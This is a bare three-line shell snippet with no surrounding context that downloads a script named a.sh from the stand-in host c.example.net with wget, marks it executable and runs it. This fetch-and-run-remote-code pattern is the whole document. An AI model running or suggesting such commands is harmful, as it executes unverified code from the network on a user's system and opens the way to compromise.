wget http://c.example.net/a.sh
chmod +x a.sh
./a.sh
